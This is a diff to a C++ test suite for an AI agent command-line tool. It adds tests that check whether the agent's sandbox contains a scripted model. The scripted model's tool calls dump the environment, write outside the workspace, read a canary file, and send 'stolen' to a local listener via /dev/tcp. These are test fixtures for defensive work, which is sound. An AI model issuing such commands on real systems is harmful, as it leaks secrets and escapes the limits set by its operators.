@@ -1,6 +1,7 @@
 // `spettro --goal` with the scripted model: what it does, how it ends, what it says of itself.
 
 #include "tests/support/HostServer.h"
+#include "tests/support/HttpTestServer.h"
 #include "tests/support/OperatorHome.h"
 #include "tests/support/Processes.h"
 #include "tests/support/ToolCalls.h"
@@ -52,6 +53,9 @@ private slots:
     void quiet();
     void events();
     void modelTextCannotMoveTheTerminal();
+    void modelBehindAServer_data();
+    void modelBehindAServer();
+    void serverThatRefuses();
 
 private:
     RunResult goal(const QStringList &flags, RunOptions options = {}) const;
@@ -223,6 +227,15 @@ void tst_Goal::wrongUse_data()
                                      << "--permission yolo";
     QTest::newRow("no script") << Tour + QStringList{"--model", "/no/such.toml"} + WorkspaceOnly
                                << "/no/such.toml";
+    QTest::newRow("no model") << QStringList{"--goal", "x", "--provider", "ollama"} + WorkspaceOnly
+                              << "--model";
+    QTest::newRow("no key") << QStringList{"--goal", "x", "--provider", "anthropic", "--model", "m"}
+                                   + WorkspaceOnly
+                            << "ANTHROPIC_API_KEY";
+    QTest::newRow("no address") << QStringList{"--goal",  "x", "--provider", "ollama",
+                                               "--model", "m", "--base-url", "host"}
+                                       + WorkspaceOnly
+                                << "--base-url";
     QTest::newRow("iterations") << Tour + QStringList{"--max-iterations", "0"} + WorkspaceOnly
                                 << "--max-iterations";
     QTest::newRow("command behind --") << Tour + WorkspaceOnly + QStringList{"--", "ls"} << "exec";
@@ -351,7 +364,7 @@ void tst_Goal::quiet()
              "} }]\n",
              WorkspaceOnly + QStringList{"--quiet"});
     QVERIFY2(result.exitCode == 0, describe(result));
-    QVERIFY2(result.output.startsWith("complete: fine\n1 iterations, "), describe(result));
+    QVERIFY2(result.output.startsWith("complete: fine\n1 iteration, "), describe(result));
     QVERIFY2(!result.output.contains("chatter"), describe(result));
 }
 
@@ -389,6 +402,97 @@ void tst_Goal::modelTextCannotMoveTheTerminal()
     QVERIFY2(result.exitCode == 0, describe(result));
     QVERIFY2(!result.output.contains('\x1b') && !result.output.contains('\x07'), describe(result));
     QVERIFY2(result.output.contains("abc"), describe(result));
+}
+
+void tst_Goal::modelBehindAServer_data()
+{
+    QTest::addColumn<QStringList>("flags");
+    QTest::addColumn<bool>("isBounded");
+    QTest::newRow("without a network for commands") << WorkspaceOnly << true;
+    QTest::newRow("without bounds") << Unbounded << false;
+}
+
+/// The model is reached though its commands reach nothing; they do not see its key, and it hears nothing of its bounds.
+void tst_Goal::modelBehindAServer()
+{
+    QFETCH(QStringList, flags);
+    QFETCH(bool, isBounded);
+    const HostServer stranger(HostServer::Kind::Tcp4);
+    const auto calling = [](const char *id, const char *tool, const Json &input) {
+        Json call;
+        call["index"] = 0;
+        call["id"] = id;
+        call["function"] = {{"name", tool}, {"arguments", input.dump()}};
+        Json choice;
+        choice["index"] = 0;
+        choice["delta"]["tool_calls"] = Json::array({call});
+        choice["finish_reason"] = "tool_calls";
+        Json event;
+        event["choices"] = Json::array({choice});
+        event["usage"] = {{"prompt_tokens", 100}, {"completion_tokens", 10}};
+        return QByteArray(
+                   "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\ndata: ")
+               + QByteArray::fromStdString(event.dump()) + "\n\ndata: [DONE]\n\n";
+    };
+    QByteArrayList answers{
+        calling("a", "bash", {{"command", "env >environment; echo x >../outside/new; true"}}),
+        calling("b", "bash",
+                {{"command", "echo stolen >/dev/tcp/127.0.0.1/" + std::to_string(stranger.port())}}),
+        calling("c", "file-read", {{"path", "../outside/canary"}}),
+        calling("d", "goal-complete", {{"summary", "fine"}}),
+    };
+    HttpTestServer server([&answers](QTcpSocket *socket) {
+        socket->write(answers.takeFirst());
+        socket->disconnectFromHost();
+    });
+    QProcess process;
+    QProcessEnvironment environment = m_home->environment();
+    environment.remove("BASH_ENV");
+    environment.insert("OPENAI_API_KEY", "sk-TESTKEY123");
+    process.setProcessEnvironment(environment);
+    process.setWorkingDirectory(m_home->workspace());
+    process.start(spettroPath(), QStringList{"--goal", "look around", "--provider", "openai", "--model", "m",
+                                             "--base-url", server.url().toString(), "--json"}
+                                     + flags);
+    QVERIFY(process.waitForStarted());
+    QVERIFY(QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, 60'000));
+    const QByteArray output = process.readAllStandardOutput() + process.readAllStandardError();
+    QVERIFY2(process.exitCode() == 0, output);
+    QCOMPARE(server.requests.size(), 4);
+    for (const QByteArray &request : server.requests) {
+        QVERIFY2(request.contains("Authorization: Bearer sk-TESTKEY123"), request);
+        const QByteArray text = request.toLower();
+        for (const char *word : {"sandbox", "landlock", "policy", "confine", "seccomp"}) {
+            QVERIFY2(!text.contains(word), request);
+        }
+    }
+    QVERIFY2(output.contains(R"("input":400)"), output);
+    QVERIFY2(!output.contains("TESTKEY123"), output);
+    const QByteArray seen = contentOf(m_home->workspace("environment"));
+    QVERIFY2(seen.contains("PATH=") && !seen.contains("TESTKEY123"), seen);
+    QCOMPARE(exists(m_home->fixture().outside("new")), !isBounded);
+    QVERIFY2(isBounded ? stranger.isSilent() : stranger.hears("stolen"), stranger.received());
+}
+
+void tst_Goal::serverThatRefuses()
+{
+    HttpTestServer server(says("HTTP/1.1 401 No\r\nConnection: close\r\n\r\n"
+                               R"({"error":{"message":"sk-TESTKEY123 is no key of this one"}})"));
+    QProcess process;
+    QProcessEnvironment environment = m_home->environment();
+    environment.insert("OPENAI_API_KEY", "sk-TESTKEY123");
+    process.setProcessEnvironment(environment);
+    process.setWorkingDirectory(m_home->workspace());
+    process.start(spettroPath(), QStringList{"--goal", "x", "--provider", "openai", "--model", "m",
+                                             "--base-url", server.url().toString()}
+                                     + WorkspaceOnly);
+    QVERIFY(process.waitForStarted());
+    QVERIFY(QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, 60'000));
+    const QByteArray output = process.readAllStandardOutput() + process.readAllStandardError();
+    QCOMPARE(process.exitCode(), 1);
+    QVERIFY2(output.contains("failed: ") && output.contains("is no key of this one"), output);
+    QVERIFY2(!output.contains("TESTKEY123"), output);
+    QCOMPARE(server.requests.size(), 1);
 }
 
 QTEST_GUILESS_MAIN(tst_Goal)
